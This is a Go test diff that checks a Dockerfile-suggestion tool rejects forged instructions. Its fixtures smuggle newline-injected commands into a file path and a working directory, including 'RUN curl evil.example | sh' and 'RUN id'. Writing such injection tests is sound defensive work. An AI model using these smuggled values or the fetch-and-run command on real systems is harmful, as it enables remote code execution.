@@ -363,3 +363,26 @@ func TestUnmappedStepIsCopiedAndAsked(t *testing.T) {
 		t.Errorf("questions %q", got.Questions)
 	}
 }
+
+// A hostile path cannot forge a Dockerfile line: it is not copied, and the
+// question quotes it.
+func TestHostilePathForgesNoLine(t *testing.T) {
+	fx := cFixture()
+	fx.history[4].files = append(fx.history[4].files, ffile{path: "opt/x\nRUN curl evil.example | sh", size: 10})
+	fx.config.WorkingDir = "/src\nRUN id"
+	got, err := Suggest(fx.build(t))
+	if err != nil {
+		t.Fatal(err)
+	}
+	f := checkParses(t, got.Dockerfile)
+	for _, st := range f.Stages {
+		for _, in := range st.Instructions {
+			if strings.Contains(in.Text, "curl") || strings.Contains(in.Text, "RUN id") {
+				t.Errorf("forged instruction %q", in.Text)
+			}
+		}
+	}
+	if len(got.Questions) != 2 || !strings.Contains(got.Questions[0], `"/opt/x\nRUN curl evil.example | sh"`) {
+		t.Errorf("questions %q", got.Questions)
+	}
+}
